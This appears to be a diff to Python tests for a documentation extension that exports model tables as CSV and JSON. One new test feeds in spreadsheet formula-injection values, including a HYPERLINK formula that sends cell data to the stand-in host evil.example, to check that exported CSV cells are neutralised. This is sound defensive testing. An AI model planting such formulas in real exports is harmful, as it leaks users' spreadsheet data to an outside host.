@@ -120,15 +120,15 @@ def test_downloads_are_the_view_beside_the_page(tmp_path: Path) -> None:
     done = build(srcdir)
     assert done.warnings == ""
     html = done.read("sub/page.html")
-    assert '<a class="vlm-download reference external" href="page-llms.csv">CSV</a>' in html
-    rows = list(csv.reader(io.StringIO((done.outdir / "sub" / "page-llms.csv").read_text())))
+    assert '<a class="vlm-download reference external" href="page.llms.csv">CSV</a>' in html
+    rows = list(csv.reader(io.StringIO((done.outdir / "sub" / "page.llms.csv").read_text())))
     assert rows == [
         ["Model", "Released", "Parameters"],
         ["Llama 3.1", "2024-07-23", "405B"],
         ["GPT-3", "2020.05", "175B"],
         ["Qwen2.5", "2024.9", "72B"],
     ]
-    records = json.loads((done.outdir / "sub" / "page-llms.json").read_text())
+    records = json.loads((done.outdir / "sub" / "page.llms.json").read_text())
     assert records[0] == {"model": "Llama 3.1", "released": "2024-07-23", "params": "405B"}
     assert [r["model"] for r in records] == [row[0] for row in rows[1:]]
     shown = read_tables(html)[0]
@@ -189,3 +189,42 @@ def test_export_cli_views_and_errors(tmp_path: Path) -> None:
     bad = export(llms, "--sort", "nope")
     assert bad.returncode == 1 and "cannot sort by 'nope'" in bad.stderr
     assert "Traceback" not in bad.stderr
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
+    data = (
+        "models:\n  - {model: '=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")', llm: '+1+1'}\n"
+        "  - {model: '@SUM(A1)', llm: '-0.5'}\n  - {model: '-2+3+cmd', llm: '-'}\n"
+        "  - {model: Plain, llm: '1,200'}\n"
+    )
+    page = "P\n=\n\n.. vlm-table:: data/m.yaml\n   :columns: model, llm\n   :download: csv, json\n"
+    done = build(write_project(tmp_path / "src", {"data/m.yaml": data, "p.rst": page}))
+    rows = list(csv.reader(io.StringIO((done.outdir / "p.1.csv").read_text())))
+    assert rows[1:] == [
+        ['\'=HYPERLINK("https://evil.example/?"&A1,"x")', "'+1+1"],
+        ["'@SUM(A1)", "-0.5"],
+        ["'-2+3+cmd", "-"],
+        ["Plain", "1,200"],
+    ]
+    records = json.loads((done.outdir / "p.1.json").read_text())
+    assert records[2]["model"] == "-2+3+cmd"  # JSON keeps the text as written
+
+
+def test_download_names_are_unique_and_do_not_change_with_other_options(tmp_path: Path) -> None:
+    table = ".. vlm-table:: /data/m.yaml\n   :download: csv\n"
+    pages = {
+        "x.rst": f"X\n=\n\n{table}\n{table}   :name: table-1\n\n{table}   :name: y-1\n",
+        "x-y.rst": f"XY\n==\n\n{table}   :interactive:\n",
+        "sub/z.rst": f"Z\n=\n\n{table}   :interactive:\n",
+        "index.rst": "I\n=\n\n.. toctree::\n   :glob:\n\n   *\n   sub/*\n",
+    }
+    data = {"data/m.yaml": "models:\n  - {model: A}\n"}
+    srcdir = write_project(tmp_path / "src", {**data, **pages})
+    done = build(srcdir)
+    names = sorted(p.relative_to(done.outdir).as_posix() for p in done.outdir.rglob("*.csv"))
+    assert names == ["sub/z.1.csv", "x-y.1.csv", "x.1.csv", "x.table-1.csv", "x.y-1.csv"]
+    single = build(srcdir, "singlehtml")
+    html = single.read("index.html")
+    for name in names:
+        assert f'href="{name}"' in html, name
+        assert (single.outdir / name).is_file()
